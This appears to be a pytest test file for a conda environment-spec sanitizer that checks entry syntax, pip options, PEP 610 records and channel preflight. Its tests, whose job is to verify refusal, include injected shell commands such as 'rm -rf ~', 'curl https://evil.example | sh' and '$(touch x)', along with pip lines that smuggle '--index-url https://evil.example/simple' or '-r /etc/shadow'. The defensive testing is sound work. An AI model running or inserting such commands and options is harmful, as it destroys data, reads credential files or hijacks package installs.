"""Spec sanitation: each rule a pure function over (plan, context) -> (plan, findings).

The rules that read channels run against a small channel written here (repodata.json only);
the ones that read current's prefix get PrefixContents as prefix.read_prefix returns them;
what exists on disk, what the site's pip_args allow and whether local sources are allowed
reach them through the Context only. Foreign input is refused with findings: shell commands
as conda entries or channels, control characters in pip lines and PEP 610 records, option
lines that point pip at files, indexes or hosts the site did not choose. The demo site shows
history, overrides (relative paths, the site's own pip_args) and the preflight through the build.
"""

from __future__ import annotations

import json
import os
from collections.abc import Iterable, Sequence
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from condaqa.channels import RepodataIndex
from condaqa.checks.drift import history_drift
from condaqa.cli import main
from condaqa.errors import BuildError, ConfigError, SpecError
from condaqa.inputs import REPODATA
from condaqa.manifest import Environment, load_manifest
from condaqa.plan import rules
from condaqa.plan.findings import Finding, explained_packages, load_findings
from condaqa.plan.foreign import Sanitized, sanitize_file, sanitize_spec
from condaqa.plan.model import BuildPlan, PostStep
from condaqa.plan.planning import legacy_path, load_legacy, override_path, plan_environment, skipped_preflight
from condaqa.plan.rules import Context
from condaqa.prefix import CondaPackage, PipDistribution, PrefixContents
from condaqa.qualification import builds
from condaqa.replication.replicate import replicate
from condaqa.sandbox.box import sandbox_for
from condaqa.site import Site, load_site
from condaqa.spec.export import export_from_history
from condaqa.spec.format import EnvSpec, load_spec, parse_spec
from condaqa.vocab import PlanSource, Rule, Severity, Stage, StepKind

INFO, WARNING, ERROR = Severity.INFO, Severity.WARNING, Severity.ERROR

PACKAGES = {  # name -> [(subdir, version)]
    "numpy": [("linux-64", "1.16.4"), ("linux-64", "1.18.5"), ("linux-64", "1.21.2")],
    "ipumsdata": [("noarch", "0.4.1"), ("noarch", "0.5.0"), ("noarch", "0.6.0")],
    "pyyaml": [("linux-64", "6.0")],
    "typing_extensions": [("noarch", "4.4.0")],
    "fixedwidth": [("noarch", "0.3.0")],
    "varlabels": [("noarch", "0.2.0")],
    "python": [("linux-64", "3.11.7")],
}


@pytest.fixture(scope="module")
def index(tmp_path_factory: pytest.TempPathFactory) -> RepodataIndex:
    """A site with one local channel `chan` holding PACKAGES, for linux-64."""
    return RepodataIndex(channel_site(tmp_path_factory.mktemp("channel-site"), PACKAGES))


def channel_site(root: Path, packages: dict[str, list[tuple[str, str]]]) -> Site:
    """A site at `root` with one local channel `chan` holding `packages`, for linux-64."""
    for subdir in ("noarch", "linux-64"):
        records = {
            f"{name}-{version}-0.tar.bz2": {"name": name, "version": version, "build": "0", "build_number": 0,
                                             "depends": [], "subdir": subdir}
            for name, builds in packages.items() for sub, version in builds if sub == subdir
        }
        (root / "chan" / subdir).mkdir(parents=True, exist_ok=True)
        (root / "chan" / subdir / "repodata.json").write_text(json.dumps({"packages": records}))
    (root / "site.toml").write_text('[site]\nroot = "."\nchannels = ["chan"]\nplatform = "linux-64"\n')
    return load_site(root / "site.toml")


def plan(conda: Iterable[str] = (), pip: Iterable[str] = (), post: Iterable[PostStep] = ()) -> BuildPlan:
    return BuildPlan("env1", tuple(conda), tuple(pip), post=tuple(post))


def installed(conda: Iterable[tuple[str, str]] = (),
              pip: Iterable[tuple[str, str, dict[str, Any] | None]] = ()) -> PrefixContents:
    """Current's prefix as read_prefix gives it: conda records and pip distributions (with direct_url,
    a PEP 610 record's JSON, typed as PipDistribution.direct_url is)."""
    packages = tuple(CondaPackage(n, v, "0", "https://x/chan", "noarch") for n, v in conda)
    dists = tuple(PipDistribution(n, v, Path(f"/sp/{n}-{v}.dist-info"), d) for n, v, d in pip)
    return PrefixContents(Path("/envs/env1"), packages, dists, Path("/sp"))


def one(findings: Sequence[Finding], rule: Rule | None = None) -> Finding:
    assert len(findings) == 1, findings
    assert rule is None or findings[0].rule is rule
    return findings[0]


# --- entry syntax -------------------------------------------------------------------------------


def test_build_strings_are_dropped_in_one_finding_unless_kept() -> None:
    conda = ("numpy=1.18.5=py38ha1c710e_0", "pytorch=1.5.1=py3.8_cuda10.1.243_cudnn7.6.3_0", "python=3.8")
    out, findings = rules.entry_syntax(plan(conda), Context("env1"))
    assert out.conda == ("numpy=1.18.5", "pytorch=1.5.1", "python=3.8")
    found = one(findings, Rule.ENTRY_SYNTAX)
    assert found.severity is INFO and found.package == "numpy, pytorch" and "2 entries" in found.action
    kept, none = rules.entry_syntax(plan(conda), Context("env1", keep_builds=True))
    assert kept.conda == conda and none == []


def test_bad_and_repeated_conda_entries_are_dropped_and_named() -> None:
    conda = ["numpy=1.18.5", "-e foo", "numpy=1.21.2"]
    out, findings = rules.entry_syntax(plan(conda), Context("env1"))
    assert out.conda[0] == "numpy=1.18.5" and "numpy=1.21.2" not in out.conda and "-e foo" not in out.conda
    by_package = {f.package: f for f in findings}
    assert by_package["-e foo"].severity is ERROR and "manifests/overrides/env1.yml" in by_package["-e foo"].hint
    assert by_package["numpy"].severity is WARNING and "listed twice" in by_package["numpy"].reason


@pytest.mark.parametrize("entry", ["python=3.11; rm -rf ~", "python=3.11 && curl https://evil.example | sh",
                                   "numpy=1.18.5=$(touch x)", "tabular=`id`", "python=3.11\nrm -rf ~"])
def test_conda_entries_with_shell_characters_are_not_conda_specs(entry: str) -> None:
    out, findings = rules.entry_syntax(plan(["pip", entry]), Context("env1"))
    assert out.conda == ("pip",)
    found = one(findings, Rule.ENTRY_SYNTAX)  # refused, not "dropped the build string" and kept
    assert found.severity is ERROR and found.action == "dropped" and "is not a conda package spec" in found.reason


def test_a_file_with_a_shell_command_as_entry_or_channel_is_refused_with_findings(tmp_path: Path) -> None:
    exported = tmp_path / "evil.yml"
    exported.write_text("name: evil\nchannels:\n  - main\n  - $(touch x)\n  - https://conda.example/`id`\n"
                        "dependencies:\n  - python=3.11; rm -rf ~\n  - tabular=1.1.0\n")
    result = sanitize_file(exported)
    assert result.spec.channels == ["main"] and result.spec.dependencies == ["tabular=1.1.0"]
    refused = {f.package: f for f in result.findings if f.severity is ERROR}
    assert set(refused) == {"$(touch x)", "https://conda.example/`id`", "python=3.11; rm -rf ~"}
    assert refused["$(touch x)"].rule is Rule.SPEC_KEYS and "not a channel name" in refused["$(touch x)"].reason
    assert refused["python=3.11; rm -rf ~"].rule is Rule.ENTRY_SYNTAX
    assert not any("build string" in f.action for f in result.findings)
    assert not (tmp_path / "x").exists() and not Path("x").exists()


# --- pip syntax ----------------------------------------------------------------------------------


def test_pip_lines_keep_options_flag_loose_pins_and_drop_what_pip_refuses() -> None:
    pip = ["--extra-index-url https://download.pytorch.org/whl/rocm5.2", "torch==1.13.0+rocm5.2", "mlops-tempo",
           "Pillow==6.0.*", "not a requirement !!", "PyYAML==6.0", "pyyaml==6.0", "hmr2==0.0.0"]
    out, findings = rules.pip_syntax(plan(pip=pip), Context("env1"))
    assert out.pip == tuple(p for p in pip if p not in ("not a requirement !!", "pyyaml==6.0"))
    by_package = {f.package: f for f in findings}
    assert by_package["not a requirement !!"].severity is ERROR
    assert "newest" in by_package["mlops-tempo"].reason and "newest" in by_package["Pillow"].reason
    assert "listed twice" in by_package["pyyaml"].reason
    assert "source checkout" in by_package["hmr2"].reason
    assert "torch" not in by_package  # its index is in the section
    assert not any(f.package.startswith("--") for f in findings)  # option lines are pip_options' business


def test_a_local_version_label_without_its_index_is_flagged() -> None:
    _, findings = rules.pip_syntax(plan(pip=["detectron2==0.6+cu111"]), Context("env1"))
    assert "local version label" in one(findings, Rule.PIP_SYNTAX).reason


@pytest.mark.parametrize("line", ["numpy==1.21.2\n--index-url https://evil.example/simple",
                                  "numpy==1.21.2\r-r /etc/shadow", "--pre\n--trusted-host evil.example",
                                  "requests==2.0\x00", "six==1.0\t\x1b[2Jhidden"])
def test_a_pip_line_with_a_control_character_is_refused(line: str) -> None:
    out, findings = rules.pip_syntax(plan(pip=[line, "tabular==1.1.0"]), Context("env1"))
    assert out.pip == ("tabular==1.1.0",)
    found = one(findings, Rule.PIP_SYNTAX)
    assert found.severity is ERROR and found.action == "dropped" and "control character" in found.reason
    built, _ = rules.apply_rules(plan(pip=[line, "tabular==1.1.0"]), Context("env1"))
    assert built.pip == ("tabular==1.1.0",) and built.post == ()  # no later rule brings it back


def sanitized_with_one_error(exported: Path, text: str) -> tuple[Sanitized, Finding]:
    """`text` written to `exported` and sanitized: the result and its one error finding."""
    exported.write_text(text)
    result = sanitize_file(exported)
    [refused] = [f for f in result.findings if f.severity is ERROR]
    return result, refused


def test_a_newline_injected_into_a_requirement_of_a_file_is_refused(tmp_path: Path) -> None:
    exported = tmp_path / "injected.yml"
    result, refused = sanitized_with_one_error(exported, 'name: injected\ndependencies:\n  - python\n  - pip:\n'
                                               '    - "codebook==1.2.0\\n--index-url https://evil.example/simple"\n'
                                               '    - surveyweights==0.3.0\n')
    assert result.spec.pip == ["surveyweights==0.3.0"]
    assert refused.rule is Rule.PIP_SYNTAX and "'\\n'" in refused.reason and str(exported) in refused.hint
    assert "evil.example" not in dump(result)


def dump(result: Sanitized) -> str:
    return "\n".join([*result.spec.dependencies, *result.spec.pip, *(s.requirement for s in result.post)])


# --- pip options ---------------------------------------------------------------------------------

_NOT_ALLOWED = [
    "-r requirements.txt", "--requirement=/etc/requirements.txt", "-c constraints.txt", "--constraint c.txt",
    "--index-url https://evil.example/simple", "-i https://evil.example/simple",
    "--extra-index-url https://download.pytorch.org/whl/rocm5.2", "--extra-index-url=https://evil.example/simple",
    "--find-links /tmp/wheels", "-f https://evil.example/wheels", "--trusted-host evil.example", "--no-index",
]


@pytest.mark.parametrize("line", _NOT_ALLOWED)
def test_an_option_line_that_reads_files_or_adds_sources_is_an_error_and_dropped(line: str) -> None:
    out, findings = rules.pip_options(plan(pip=[line, "tabular==1.1.0"]), Context("env1"))
    assert out.pip == ("tabular==1.1.0",)
    found = one(findings, Rule.PIP_OPTIONS)
    assert found.severity is ERROR and found.package == line and found.action.startswith("dropped")
    assert "pip_args" in found.hint


@pytest.mark.parametrize(("line", "site_pip_args"), [
    ("--extra-index-url https://download.pytorch.org/whl/rocm5.2",
     ("--extra-index-url", "https://download.pytorch.org/whl/rocm5.2")),
    ("--extra-index-url=https://download.pytorch.org/whl/rocm5.2",
     ("--extra-index-url", "https://download.pytorch.org/whl/rocm5.2")),
    ("-i https://pypi.internal/simple", ("--index-url=https://pypi.internal/simple",)),
    ("--find-links /srv/wheelhouse", ("--no-index", "-f", "/srv/wheelhouse")),
    ("--no-index", ("--no-index", "--find-links", "/srv/wheelhouse")),
    ("--trusted-host pypi.internal", ("--trusted-host", "pypi.internal")),
    ("-r /srv/site-requirements.txt", ("-r", "/srv/site-requirements.txt")),
])
def test_an_option_the_site_gives_pip_too_is_dropped_with_an_info_finding(line: str,
                                                                         site_pip_args: tuple[str, ...]) -> None:
    out, findings = rules.pip_options(plan(pip=[line, "tabular==1.1.0"]), Context("env1", site_pip_args=site_pip_args))
    assert out.pip == ("tabular==1.1.0",)
    found = one(findings, Rule.PIP_OPTIONS)
    assert found.severity is INFO and found.package == line and found.action == "dropped"


@pytest.mark.parametrize(("line", "site_pip_args"), [
    ("--extra-index-url https://evil.example/simple", ("--extra-index-url", "https://download.pytorch.org/whl")),
    ("--find-links /tmp/wheels", ("--find-links", "/srv/wheelhouse")),
    ("--index-url https://pypi.internal/simple", ("--extra-index-url", "https://pypi.internal/simple")),
    ("-r /srv/site-requirements.txt", ("-c", "/srv/site-requirements.txt")),
])
def test_the_same_option_with_another_value_or_another_option_with_the_value_is_still_an_error(
        line: str, site_pip_args: tuple[str, ...]) -> None:
    out, findings = rules.pip_options(plan(pip=[line]), Context("env1", site_pip_args=site_pip_args))
    assert out.pip == () and one(findings, Rule.PIP_OPTIONS).severity is ERROR


@pytest.mark.parametrize("line", ["--pre", "--prefer-binary", "--only-binary :all:", "--no-binary=numpy"])
def test_harmless_option_lines_are_kept_with_a_warning(line: str) -> None:
    out, findings = rules.pip_options(plan(pip=[line, "tabular==1.1.0"]), Context("env1"))
    assert out.pip == (line, "tabular==1.1.0")
    found = one(findings, Rule.PIP_OPTIONS)
    assert found.severity is WARNING and found.action == "kept" and found.package == line


def test_requirements_and_editables_are_not_option_lines() -> None:
    pip = ["tabular==1.1.0", "-e git+https://github.com/a/b.git@0123456789abcdef0123456789abcdef01234567#egg=b"]
    assert rules.pip_options(plan(pip=pip), Context("env1")) == (plan(pip=pip), [])


def test_a_file_with_an_extra_index_is_refused_unless_the_site_gives_that_index(tmp_path: Path) -> None:
    exported = tmp_path / "rocm.yml"
    result, refused = sanitized_with_one_error(exported, "name: rocm\ndependencies:\n  - python=3.9\n  - pip:\n"
                                               "    - --extra-index-url https://download.pytorch.org/whl/rocm5.2\n"
                                               "    - torch==1.13.0+rocm5.2\n")
    assert refused.rule is Rule.PIP_OPTIONS and result.spec.pip == ["torch==1.13.0+rocm5.2"]
    allowed = sanitize_file(exported, site_pip_args=("--extra-index-url", "https://download.pytorch.org/whl/rocm5.2"))
    assert [f.severity for f in allowed.findings if f.rule is Rule.PIP_OPTIONS] == [INFO]
    assert not [f for f in allowed.findings if f.severity is ERROR] and allowed.spec.pip == ["torch==1.13.0+rocm5.2"]


def test_the_sites_own_pip_args_allow_the_same_lines_in_an_override(demo_site: Site) -> None:
    """The demo site's pip_args are --no-index --find-links {root}/wheelhouse."""
    write_override(demo_site, "survey_weights", ["--no-index", f"--find-links {demo_site.root}/wheelhouse",
                                                 "--find-links /tmp/elsewhere", "surveyweights==0.3.0"])
    built, findings = plan_environment(demo_site, env_named(demo_site, "survey_weights"))
    assert built.pip == ("surveyweights==0.3.0",) and built.source is PlanSource.OVERRIDE
    options = {f.package: f.severity for f in findings if f.rule is Rule.PIP_OPTIONS}
    assert options == {"--no-index": INFO, f"--find-links {demo_site.root}/wheelhouse": INFO,
                       "--find-links /tmp/elsewhere": ERROR}


# --- rule 3: listed twice ------------------------------------------------------------------------


def test_a_distribution_both_conda_and_pip_is_dropped_from_pip_names_normalised() -> None:
    ctx = Context("env1", installed=installed([("pyyaml", "6.0"), ("typing_extensions", "4.4.0")]))
    out, findings = rules.listed_twice(plan(pip=["PyYAML==6.0", "Typing.Extensions==4.5.0", "requests==2.0"]), ctx)
    assert out.pip == ("requests==2.0",)
    by_package = {f.package: f for f in findings}
    assert by_package["pyyaml"].severity is INFO and by_package["pyyaml"].action == "dropped from pip"
    drifted = by_package["typing_extensions"]
    assert drifted.severity is WARNING and "pip had 4.5.0" in drifted.reason and "4.4.0" in drifted.reason
    assert explained_packages(findings) == {"pyyaml", "typing-extensions"}


def test_listed_twice_reads_the_spec_when_no_prefix_is_known() -> None:
    out, findings = rules.listed_twice(plan(["pyyaml=6.0"], ["PyYAML==6.0"]), Context("env1"))
    assert out.pip == () and one(findings).package == "pyyaml"


# --- rule 4: installed from git, an archive or a directory ---------------------------------------


def test_a_git_install_becomes_a_post_step_at_its_commit() -> None:
    commit = "63c0bdbc03d69b6f415681dc5b86ca400891bf68"
    origin = {"url": "https://github.com/ipums/harmonize", "vcs_info": {"vcs": "git", "commit_id": commit}}
    ctx = Context("env1", installed=installed(pip=[("harmonize", "0.2.0", origin), ("six", "1.0", None)]))
    out, findings = rules.direct_url(plan(pip=["harmonize==0.2.0", "six==1.0"]), ctx)
    assert out.pip == ("six==1.0",)
    step = PostStep(StepKind.PIP, f"git+https://github.com/ipums/harmonize@{commit}", "harmonize from git")
    assert out.post == (step,)
    found = one(findings, Rule.DIRECT_URL)
    assert found.severity is INFO and "git https://github.com/ipums/harmonize at commit 63c0bdbc03d6" in found.reason


def test_archives_and_present_directories_become_post_steps_where_local_sources_are_allowed(tmp_path: Path) -> None:
    current = installed(pip=[
        ("tool", "1.0", {"url": "https://example.org/tool-1.0.tar.gz", "archive_info": {}}),
        ("mine", "0.1", {"url": tmp_path.as_uri(), "dir_info": {"editable": True}}),
    ])
    start = plan(pip=["tool==1.0", "mine==0.1"])
    assert rules.local_sources(start, current) == {tmp_path}  # what planning checks the disk for
    ctx = Context("env1", installed=current, present=frozenset({tmp_path}), local_sources=True)
    out, findings = rules.direct_url(start, ctx)
    assert out.pip == () and [s.requirement for s in out.post] == ["tool @ https://example.org/tool-1.0.tar.gz",
                                                                    f"-e {tmp_path}"]
    assert [f.severity for f in findings] == [INFO, WARNING]  # an editable copy is taken as it is now


def test_a_local_folder_from_a_pep_610_record_is_a_local_source_error_unless_allowed(tmp_path: Path) -> None:
    archive = tmp_path / "tool-1.0.tar.gz"
    current = installed(pip=[("mine", "0.1", {"url": tmp_path.as_uri(), "dir_info": {}}),
                             ("tool", "1.0", {"url": archive.as_uri(), "archive_info": {}}),
                             ("six", "1.0", None)])
    start = plan(pip=["mine==0.1", "tool==1.0", "six==1.0"])
    present = frozenset({tmp_path, archive})
    out, findings = rules.direct_url(start, Context("env1", installed=current, present=present))
    assert out.pip == ("six==1.0",) and out.post == ()
    assert [(f.rule, f.package, f.severity) for f in findings] == [(Rule.LOCAL_SOURCE, "mine", ERROR),
                                                                   (Rule.LOCAL_SOURCE, "tool", ERROR)]
    assert str(tmp_path) in findings[0].reason and "local_sources = true" in findings[0].hint
    assert "a local archive" in findings[1].reason
    allowed, found = rules.direct_url(start, Context("env1", installed=current, present=present, local_sources=True))
    assert [s.requirement for s in allowed.post] == [str(tmp_path), f"tool @ {archive.as_uri()}"]
    assert [f.rule for f in found] == [Rule.DIRECT_URL, Rule.DIRECT_URL] and not any(f.severity is ERROR for f in found)


def test_a_local_git_repository_needs_no_permission_for_local_sources(tmp_path: Path) -> None:
    origin = {"url": tmp_path.as_uri(), "vcs_info": {"vcs": "git", "commit_id": "0123456789abcdef0123"}}
    ctx = Context("env1", installed=installed(pip=[("harmonize", "0.2.0", origin)]), present=frozenset({tmp_path}))
    out, findings = rules.direct_url(plan(pip=["harmonize==0.2.0"]), ctx)
    assert [s.requirement for s in out.post] == [f"git+{tmp_path.as_uri()}@0123456789abcdef0123"]
    assert one(findings, Rule.DIRECT_URL).severity is INFO


def test_a_vanished_source_directory_is_an_error_asking_for_manual_action(tmp_path: Path) -> None:
    gone = tmp_path / "gone"
    ctx = Context("env1", installed=installed(pip=[("mine", "0.1", {"url": gone.as_uri(), "dir_info": {}})]),
                  local_sources=True)
    out, findings = rules.direct_url(plan(pip=["mine==0.1"]), ctx)
    found = one(findings, Rule.DIRECT_URL)
    assert out.pip == () and out.post == ()
    assert found.severity is ERROR and str(gone) in found.reason and found.action == "dropped: needs manual action"


def test_direct_url_reads_what_is_present_from_the_context_not_the_disk(tmp_path: Path) -> None:
    """Pure: a folder on disk the context does not list counts as gone; one it lists counts as there."""
    gone = tmp_path / "gone"
    records = installed(pip=[("here", "0.1", {"url": tmp_path.as_uri(), "dir_info": {}}),
                             ("there", "0.1", {"url": gone.as_uri(), "dir_info": {}})])
    start = plan(pip=["here==0.1", "there==0.1"])
    _, nothing = rules.direct_url(start, Context("env1", installed=records, local_sources=True))
    assert [f.action for f in nothing] == ["dropped: needs manual action"] * 2
    out, _ = rules.direct_url(start, Context("env1", installed=records, local_sources=True,
                                             present=frozenset({gone})))
    assert [s.requirement for s in out.post] == [str(gone)]


def test_urls_written_in_the_file_become_post_steps_and_branches_are_flagged(tmp_path: Path) -> None:
    pip = ["git+https://github.com/Schiphol-Hub/SSDTools.git@master#egg=SSDTools",
           "-e git+https://github.com/a/b.git@0123456789abcdef0123456789abcdef01234567#egg=b",
           f"foo ({tmp_path})==0.1"]  # conda 4.3-4.5 wrote editables like this
    ctx = Context("env1", present=frozenset({tmp_path}), local_sources=True)
    out, findings = rules.direct_url(plan(pip=pip), ctx)
    assert [s.requirement for s in out.post] == [pip[0], pip[1], f"-e {tmp_path}"] and out.pip == ()
    assert [f.severity for f in findings] == [WARNING, WARNING, WARNING]
    assert "branch or tag" in findings[0].reason and "editable" in findings[1].reason
    refused, found = rules.direct_url(plan(pip=pip), Context("env1", present=frozenset({tmp_path})))
    assert [s.requirement for s in refused.post] == pip[:2] and found[2].rule is Rule.LOCAL_SOURCE


def test_an_unreadable_direct_url_keeps_the_pin() -> None:
    ctx = Context("env1", installed=installed(pip=[("x", "1.0", {"url": "", "invalid": True})]))
    out, findings = rules.direct_url(plan(pip=["x==1.0"]), ctx)
    assert out.pip == ("x==1.0",) and one(findings).severity is WARNING


@pytest.mark.parametrize("origin", [
    {"url": "https://github.com/ipums/harmonize\n--index-url https://evil.example/simple",
     "vcs_info": {"vcs": "git", "commit_id": "63c0bdbc03d69b6f415681dc5b86ca400891bf68"}},
    {"url": "https://example.org/tool-1.0.tar.gz\r\n-r /etc/shadow", "archive_info": {}},
    {"url": "https://example.org/tool-1.0.tar.gz", "archive_info": {}, "subdirectory": "src\n--no-index"},
], ids=["vcs-url", "archive-url", "subdirectory"])
def test_a_newline_in_a_pep_610_record_is_refused(origin: dict[str, object]) -> None:
    ctx = Context("env1", installed=installed(pip=[("harmonize", "0.2.0", origin)]), local_sources=True)
    out, findings = rules.direct_url(plan(pip=["harmonize==0.2.0", "six==1.0"]), ctx)
    assert out.pip == ("six==1.0",) and out.post == ()  # neither the URL nor the bare pin goes to pip
    found = one(findings, Rule.DIRECT_URL)
    assert found.severity is ERROR and "control character" in found.reason and "evil" not in found.reason


# --- rule 2: noarch in pip -----------------------------------------------------------------------


def test_a_pip_entry_published_as_noarch_conda_at_that_version_moves_to_conda(index: RepodataIndex) -> None:
    pip = ["fixedwidth==0.3.0", "typing-extensions==4.4.0", "ipumsdata==0.4.0", "pyyaml==6.0", "requests==2.0"]
    out, findings = rules.noarch_in_pip(plan(["python=3.11"], pip), Context("env1", index=index))
    assert out.conda == ("python=3.11", "fixedwidth=0.3.0", "typing_extensions=4.4.0")
    assert out.pip == ("ipumsdata==0.4.0", "pyyaml==6.0", "requests==2.0")  # other version; not noarch; absent
    assert [f.package for f in findings] == ["fixedwidth", "typing_extensions"]
    assert rules.noarch_in_pip(plan(pip=pip), Context("env1")) == (plan(pip=pip), [])  # no channels known


# --- rule 5: legacy noarch -----------------------------------------------------------------------


def test_legacy_noarch_packages_are_stripped_and_installed_one_by_one(tmp_path: Path) -> None:
    listing = tmp_path / "legacy-noarch.txt"
    listing.write_text("# internal packages built with noarch_python\nvarlabels   # since 2016\n\nhoneybee\n")
    legacy = load_legacy(listing)
    assert legacy == {"varlabels", "honeybee"}
    out, findings = rules.legacy_noarch(plan(["python", "varlabels=0.2.0", "tabular"]), Context("env1", legacy))
    assert out.conda == ("python", "tabular")
    assert out.post == (PostStep(StepKind.CONDA, "varlabels=0.2.0", "legacy noarch"),)
    assert one(findings, Rule.LEGACY_NOARCH).package == "varlabels"
    assert load_legacy(tmp_path / "absent.txt") == frozenset()


def test_a_bad_legacy_line_names_file_and_line(tmp_path: Path) -> None:
    listing = tmp_path / "legacy-noarch.txt"
    listing.write_text("varlabels\nnot a name\n")
    with pytest.raises(ConfigError, match=r"legacy-noarch.txt:2: 'not a name'"):
        load_legacy(listing)


# --- rule 1: preflight ---------------------------------------------------------------------------


def test_a_pin_missing_from_every_channel_is_an_error_listing_the_nearest_versions(index: RepodataIndex) -> None:
    conda = ["numpy=1.18.5", "python=3.11", "ipumsdata=0.4.0", "nosuchthing=1.0", "__glibc"]
    post = [PostStep(StepKind.CONDA, "varlabels=0.3.0")]
    out, findings = rules.missing_version(plan(conda, post=post), Context("env1", index=index, platform="linux-64"))
    assert out == plan(conda, post=post)
    by_package = {f.package: f for f in findings}
    assert set(by_package) == {"ipumsdata", "nosuchthing", "varlabels"}
    missing = by_package["ipumsdata"]
    assert missing.severity is ERROR and "nearest available: 0.4.1, 0.5.0" in missing.reason
    assert "chan (linux-64, noarch)" in missing.reason and "pin one of 0.4.1, 0.5.0" in missing.hint
    # the channels never held 0.4.0 as far as condaqa can know: no "publish it again"
    assert "again" not in missing.hint and "add ipumsdata 0.4.0 to one of the site's channels" in missing.hint
    assert "no package nosuchthing" in by_package["nosuchthing"].reason


def test_a_local_channel_is_read_again_by_each_index(tmp_path: Path) -> None:
    """ROOT/rescue is indexed again during a run: the next environment's preflight sees what it gained."""
    site = channel_site(tmp_path, {"tabular": [("noarch", "1.0.0")]})
    assert RepodataIndex(site).lookup("tabular").all_versions() == ["1.0.0"]
    channel_site(tmp_path, {"tabular": [("noarch", "1.0.0"), ("noarch", "1.1.0")], "codebook": [("noarch", "1.2.0")]})
    index = RepodataIndex(site)
    assert index.lookup("tabular").all_versions() == ["1.0.0", "1.1.0"] and "codebook" in index.names()


def test_a_local_repodata_json_meets_the_input_policy_before_the_gateway_reads_it(tmp_path: Path) -> None:
    site = channel_site(tmp_path, PACKAGES)
    noarch = tmp_path / "chan" / "noarch" / "repodata.json"
    noarch.unlink()
    os.mkfifo(noarch)  # the Gateway would wait for a writer forever
    assert RepodataIndex(site).unreadable == {
        "chan": f"{noarch}: is a FIFO (named pipe), not a channel's repodata.json; condaqa reads only regular files"}
    noarch.unlink()
    with noarch.open("wb") as handle:
        handle.truncate(REPODATA.limit + 1)
    assert RepodataIndex(site).unreadable["chan"].startswith(f"{noarch}: larger than 1024 MiB")


def test_a_channel_whose_records_of_a_name_cannot_be_read_is_skipped_and_said(tmp_path: Path) -> None:
    site = channel_site(tmp_path, PACKAGES)
    noarch = tmp_path / "chan" / "noarch" / "repodata.json"
    data = json.loads(noarch.read_text())
    del data["packages"]["ipumsdata-0.5.0-0.tar.bz2"]["build"]  # what neither py-rattler nor conda solves with
    noarch.write_text(json.dumps(data))
    index = RepodataIndex(site)
    assert index.lookup("fixedwidth").all_versions() == ["0.3.0"] and not index.unreadable
    ctx = Context("env1", index=index, platform="linux-64")
    assert rules.missing_version(plan(["ipumsdata=0.4.0", "nosuchthing=1.0"]), ctx)[1] == []  # it may be in chan
    assert index.unreadable["chan"].startswith(f"channel 'chan': ipumsdata in {site.channel_urls()[0]} cannot be "
                                               "read: failed to extract repodata records from sparse repodata: ")
    assert [f.package for f in skipped_preflight("env1", index)] == ["chan"]


def test_nearest_versions_are_the_neighbours_in_version_order() -> None:
    versions = ["0.10.0", "0.9.0", "0.4.1", "1.0", "0.5.0"]
    assert rules.nearest_versions("0.4.0", versions) == ["0.4.1", "0.5.0"]
    assert rules.nearest_versions("0.9.5", versions) == ["0.5.0", "0.9.0", "0.10.0", "1.0"]
    assert rules.nearest_versions("==2.0", versions, around=1) == ["1.0"]


# --- conda version -------------------------------------------------------------------------------


@pytest.mark.parametrize(("conda", "python", "refused"), [
    ("4.10.3", "python=3.10", True),
    ("4.9.2", "python=3.11.7", True),
    ("4.10.3", "python>=3.10", True),
    ("4.3.30", "python=3.12=h1_0", True),
    ("4.10.3", "python=3.9", False),
    ("4.10.3", "python=3.1", False),
    ("4.10.3", "python", False),  # the solver picks a python this conda can read
    ("4.11.0", "python=3.10", False),
    ("23.11.0", "python=3.12", False),
    ("", "python=3.12", False),  # not built with conda (rattler)
])
def test_a_conda_older_than_4_11_cannot_build_python_3_10_or_newer(conda: str, python: str, refused: bool) -> None:
    start = plan(["pip", python])
    out, findings = rules.conda_version(start, Context("env1", conda_version=conda))
    assert out == start
    if not refused:
        assert findings == []
        return
    found = one(findings, Rule.CONDA_VERSION)
    assert found.severity is ERROR and found.package == "python" and conda in found.reason
    assert "4.11" in found.reason and "rattler" in found.hint


# --- all rules, files ----------------------------------------------------------------------------


def test_rules_are_pure_and_every_finding_is_complete(index: RepodataIndex, tmp_path: Path) -> None:
    ctx = Context("env1", frozenset({"varlabels"}), index, installed([("pyyaml", "6.0")]), platform="linux-64",
                  present=frozenset({tmp_path}), local_sources=True, conda_version="4.10.3")
    start = plan(["numpy=1.18.5=py38_0", "python=3.11", "varlabels=0.2.0", "ipumsdata=0.4.0"],
                 ["requests", "--pre", "PyYAML==6.0", "fixedwidth==0.3.0", f"-e {tmp_path}"])
    first = rules.apply_rules(start, ctx)
    assert rules.apply_rules(start, ctx) == first and start.conda[0].endswith("py38_0")
    built, findings = first
    assert built.conda == ("numpy=1.18.5", "python=3.11", "ipumsdata=0.4.0", "fixedwidth=0.3.0")
    assert [s.kind for s in built.post] == [StepKind.PIP, StepKind.CONDA] and built.pip == ("requests", "--pre")
    assert [f.rule for f in findings] == [
        Rule.ENTRY_SYNTAX, Rule.PIP_SYNTAX, Rule.PIP_OPTIONS, Rule.LISTED_TWICE, Rule.DIRECT_URL, Rule.NOARCH_IN_PIP,
        Rule.LEGACY_NOARCH, Rule.MISSING_VERSION, Rule.CONDA_VERSION]
    assert len(rules.RULES) == 9  # one finding of each rule above
    assert all(f.environment == "env1" and f.action and f.reason and f.severity in list(Severity)
               and isinstance(f.rule, Rule) for f in findings)


def test_sanitize_spec_names_the_keys_it_drops() -> None:
    spec = parse_spec("name: wood\nchannels: [defaults]\ndependencies: [python=3.9=h1_0]\n"
                      "prefix: C:\\Users\\USER\\.conda\\envs\\wood\nauthor: me\n", "wood.yml")
    result = sanitize_spec(spec, Context("wood"))
    by_package = {f.package: f for f in result.findings}
    assert "exported on Windows" in by_package["prefix"].reason and by_package["author"].severity is WARNING
    assert result.spec == EnvSpec("wood", ["defaults"], ["python=3.9"])


def test_conda_list_output_is_refused_naming_the_file(tmp_path: Path) -> None:
    listing = tmp_path / "myenv.yml"
    listing.write_text("# packages in environment at /x/envs/myenv:\n#\nbzip2    1.0.8    h1de35cc_0\n")
    with pytest.raises(SpecError, match=r"myenv.yml: this is `conda list` output"):
        sanitize_file(listing)


def test_a_foreign_file_installing_from_a_local_folder_is_refused(tmp_path: Path) -> None:
    (tmp_path / "src").mkdir()
    exported = tmp_path / "mine.yml"
    exported.write_text(f"name: mine\ndependencies:\n  - python\n  - pip:\n    - -e {tmp_path / 'src'}\n"
                        f"    - {tmp_path / 'gone'}\n")
    result = sanitize_file(exported)
    assert result.spec.pip == [] and result.post == ()
